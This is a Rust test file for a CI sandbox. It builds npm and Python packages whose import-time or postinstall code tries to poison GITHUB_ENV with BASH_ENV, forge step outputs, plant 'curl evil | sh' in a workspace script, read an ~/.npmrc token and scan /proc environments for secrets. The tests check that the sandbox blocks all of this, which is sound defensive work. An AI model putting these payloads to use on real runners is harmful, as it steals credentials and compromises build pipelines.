//! Package code writes nothing the runner or a later step reads (issue #22, item 2).
//!
//! The attack: code smoke-install runs (a package's import-time code, a dependency's install
//! script) appends `BASH_ENV=<its script>` to the runner's `GITHUB_ENV` file under
//! `RUNNER_TEMP/_runner_file_commands/` (the next step would run that script with its own
//! secrets), forges this step's outputs and summary, adds to `GITHUB_PATH`, plants a file in the
//! workspace, reads a credential an earlier step left in the runner's HOME, and reads the
//! environment of another process of the step. Inside the sandbox's namespaces every write fails
//! and nothing is read; where namespaces are unavailable the run says so in a warning.

use std::path::{Path, PathBuf};
use std::process::{Child, Command};

use crate::support::collector::Collector;
use crate::support::harness::*;
use crate::support::packages::{tarball, wheel};

const HOME_TOKEN: &str = "npm_HOMEcredentialLEFTbyAnEarlierStep01";
const SIDECAR_SECRET: &str = "sidecarSECRETinTheStepShell-7f3e9a";

/// What the attack aims at: files of the runner, the workspace and an earlier step.
struct Targets {
    github_env: PathBuf,
    github_path: PathBuf,
    workspace_file: PathBuf,
    runner_home: PathBuf,
}

impl Targets {
    fn new(gha: &Gha, work: &Path) -> Self {
        let commands = gha.path().join("_runner_file_commands");
        std::fs::create_dir_all(&commands).unwrap();
        let github_env = commands.join("set_env_5a1f");
        let github_path = commands.join("add_path_5a1f");
        std::fs::write(&github_env, "").unwrap();
        std::fs::write(&github_path, "").unwrap();
        let workspace_file = work.join("build.sh");
        std::fs::write(&workspace_file, "echo building\n").unwrap();
        let runner_home = work.join("runner-home");
        std::fs::create_dir_all(&runner_home).unwrap();
        std::fs::write(
            runner_home.join(".npmrc"),
            format!("//registry.npmjs.org/:_authToken={HOME_TOKEN}\n"),
        )
        .unwrap();
        Targets {
            github_env,
            github_path,
            workspace_file,
            runner_home,
        }
    }

    /// The files to append to, by name, as a JSON object the package code reads.
    fn writes(&self, gha: &Gha) -> String {
        serde_json::json!({
            "GITHUB_ENV": self.github_env,
            "GITHUB_PATH": self.github_path,
            "GITHUB_OUTPUT": gha.output,
            "GITHUB_STEP_SUMMARY": gha.summary,
            "workspace": self.workspace_file,
        })
        .to_string()
    }
}

/// Node code for import time (or an install script): the whole attack, then a JSON report.
fn node_attack(collector: &Collector, gha: &Gha, targets: &Targets) -> String {
    format!(
        r#"const fs = require('fs');
{sink}
const lines = {{ GITHUB_ENV: 'BASH_ENV=/tmp/evil.sh\n', GITHUB_PATH: '/tmp/evil-bin\n',
  GITHUB_OUTPUT: 'forged=yes\n', GITHUB_STEP_SUMMARY: 'FORGED-SUMMARY\n', workspace: 'curl evil | sh\n' }};
const report = {{ wrote: {{}}, read: {{}}, leaked: [] }};
for (const [name, file] of Object.entries({writes})) {{
  try {{ fs.appendFileSync(file, lines[name]); report.wrote[name] = 'written'; }}
  catch (e) {{ report.wrote[name] = e.code; }}
}}
try {{ report.read.home_npmrc = fs.readFileSync({npmrc:?}, 'latin1'); }} catch (e) {{ report.read.home_npmrc = e.code; }}
for (const pid of fs.readdirSync('/proc').filter(n => /^\d+$/.test(n))) {{
  try {{ if (fs.readFileSync(`/proc/${{pid}}/environ`, 'latin1').includes({secret:?})) report.leaked.push(pid); }} catch (e) {{}}
}}
sink('ATTACK ' + JSON.stringify(report));
exports.hello = () => 'hi';
"#,
        sink = collector.node_sink(),
        writes = targets.writes(gha),
        npmrc = targets.runner_home.join(".npmrc").display().to_string(),
        secret = SIDECAR_SECRET,
    )
}

/// The same attack in Python, for a wheel's `__init__.py`.
fn python_attack(collector: &Collector, gha: &Gha, targets: &Targets) -> String {
    format!(
        r#"import json, os
{sink}
lines = {{"GITHUB_ENV": "BASH_ENV=/tmp/evil.sh\n", "GITHUB_PATH": "/tmp/evil-bin\n",
  "GITHUB_OUTPUT": "forged=yes\n", "GITHUB_STEP_SUMMARY": "FORGED-SUMMARY\n", "workspace": "curl evil | sh\n"}}
report = {{"wrote": {{}}, "read": {{}}, "leaked": []}}
for name, path in json.loads({writes:?}).items():
    try:
        with open(path, "a") as f:
            f.write(lines[name])
        report["wrote"][name] = "written"
    except OSError as e:
        report["wrote"][name] = str(e)
try:
    report["read"]["home_npmrc"] = open({npmrc:?}).read()
except OSError as e:
    report["read"]["home_npmrc"] = str(e)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if {secret:?} in open(f"/proc/{{pid}}/environ", "rb").read().decode("latin1"):
            report["leaked"].append(pid)
    except OSError:
        pass
sink("ATTACK " + json.dumps(report))
def hello():
    return "hi"
"#,
        sink = collector.python_sink(),
        writes = targets.writes(gha),
        npmrc = targets.runner_home.join(".npmrc").display().to_string(),
        secret = SIDECAR_SECRET,
    )
}

/// A process of the step holding a secret in its environment, as the step's shell does.
struct Sidecar(Child);

impl Sidecar {
    fn start() -> Self {
        Sidecar(
            Command::new("sleep")
                .arg("300")
                .env("STEP_SECRET", SIDECAR_SECRET)
                .spawn()
                .unwrap(),
        )
    }
}

impl Drop for Sidecar {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The attack's reports (one per time the code ran), parsed.
fn reports(received: &str) -> Vec<serde_json::Value> {
    received
        .lines()
        .filter_map(|l| l.strip_prefix("ATTACK "))
        .map(|json| serde_json::from_str(json).unwrap())
        .collect()
}

/// What the runner would read after the step: nothing the attack wrote.
fn assert_runner_files_untouched(gha: &Gha, targets: &Targets, run: &Run) {
    let env = std::fs::read_to_string(&targets.github_env).unwrap();
    assert!(!env.contains("BASH_ENV"), "GITHUB_ENV was written: {env:?}");
    let path = std::fs::read_to_string(&targets.github_path).unwrap();
    assert!(path.is_empty(), "GITHUB_PATH was written: {path:?}");
    assert!(
        !run.outputs.contains_key("forged"),
        "an output was forged: {:?}",
        run.outputs
    );
    let summary = std::fs::read_to_string(&gha.summary).unwrap();
    assert!(
        !summary.contains("FORGED-SUMMARY"),
        "the step summary was written"
    );
    let workspace = std::fs::read_to_string(&targets.workspace_file).unwrap();
    assert_eq!(workspace, "echo building\n", "the workspace was changed");
}

/// Runs smoke-install over `package` twice: confined (every write refused, nothing read) and
/// without namespaces (the attack gets through, and the run warns that it could).
fn attack(
    package: &str,
    manager: &str,
    work: &Path,
    collector: &Collector,
    build: impl Fn(&Gha, &Targets),
) {
    let _sidecar = Sidecar::start();
    for confined in [true, false] {
        let mut gha = Gha::new();
        let targets = Targets::new(&gha, work);
        build(&gha, &targets);
        gha = gha
            .input("mode", "smoke-install")
            .input("packages", package)
            .input("expected-version", "1.0.0")
            .input("package-manager", manager)
            .env("GITHUB_ENV", targets.github_env.to_str().unwrap())
            .env("GITHUB_PATH", targets.github_path.to_str().unwrap())
            .env("HOME", targets.runner_home.to_str().unwrap())
            .cwd(work);
        if !confined {
            gha = gha.without_namespaces();
        }
        let before = collector.received().len();
        let run = gha.run();
        run.assert_code(0);
        assert_eq!(run.out("passed"), "true", "{}", run.describe());
        let found = reports(&collector.received()[before..]);
        assert!(
            !found.is_empty(),
            "the package's code did not run\n{}",
            run.describe()
        );
        let warning = run.commands("warning").join("\n");
        if confined {
            assert_runner_files_untouched(&gha, &targets, &run);
            for report in &found {
                for (name, outcome) in report["wrote"].as_object().unwrap() {
                    assert_ne!(outcome, "written", "{name} was writable: {report}");
                }
                let npmrc = report["read"]["home_npmrc"].to_string();
                assert!(
                    !npmrc.contains(HOME_TOKEN),
                    "the runner's ~/.npmrc was readable"
                );
                assert_eq!(
                    report["leaked"],
                    serde_json::json!([]),
                    "another process was read"
                );
            }
            assert!(!warning.contains("isolation"), "{}", run.describe());
        } else {
            // The same attack unconfined reaches the runner's files: the test is real.
            let env = std::fs::read_to_string(&targets.github_env).unwrap();
            assert!(
                env.contains("BASH_ENV"),
                "the attack did not work unconfined: {found:?}"
            );
            assert!(
                warning.contains("without file-system isolation") && warning.contains("GITHUB_ENV"),
                "no warning that package code ran unconfined\n{}",
                run.describe()
            );
        }
    }
}

/// `evil-1.0.0.tgz` in `dir`: the manifest's `main` is index.js, `scripts` as given.
fn write_evil_tarball(dir: &Path, scripts: &str, files: &[(&str, &str)]) {
    let manifest =
        format!(r#"{{"name": "evil", "version": "1.0.0", "main": "index.js"{scripts}}}"#);
    let mut all = vec![("package.json", manifest.as_str())];
    all.extend_from_slice(files);
    std::fs::write(dir.join("evil-1.0.0.tgz"), tarball("package", &all)).unwrap();
}

#[test]
fn npm_import_time_code_cannot_write_the_runners_files() {
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    attack(
        "evil-1.0.0.tgz",
        "pnpm",
        work.path(),
        &collector,
        |gha, targets| {
            let code = node_attack(&collector, gha, targets);
            write_evil_tarball(work.path(), "", &[("index.js", &code)]);
        },
    );
}

#[test]
fn python_import_time_code_cannot_write_the_runners_files() {
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    attack(
        "evil-1.0.0-py3-none-any.whl",
        "pnpm",
        work.path(),
        &collector,
        |gha, targets| {
            let code = python_attack(&collector, gha, targets);
            wheel(
                work.path(),
                "evil",
                "1.0.0",
                &[("evil/__init__.py", &code)],
                &[],
            );
        },
    );
}

/// The install-script path: npm runs the package's own `postinstall` (no credential, so no
/// split), which attacks before anything is loaded. (pnpm 10 runs no dependency scripts.)
#[test]
fn an_install_script_cannot_write_the_runners_files() {
    let work = tempfile::tempdir().unwrap();
    let collector = Collector::start();
    attack(
        "evil-1.0.0.tgz",
        "npm",
        work.path(),
        &collector,
        |gha, targets| {
            let code = node_attack(&collector, gha, targets);
            write_evil_tarball(
                work.path(),
                r#", "scripts": {"postinstall": "node attack.js"}"#,
                &[
                    ("index.js", "exports.hello = () => 'hi';\n"),
                    ("attack.js", &code),
                ],
            );
        },
    );
}
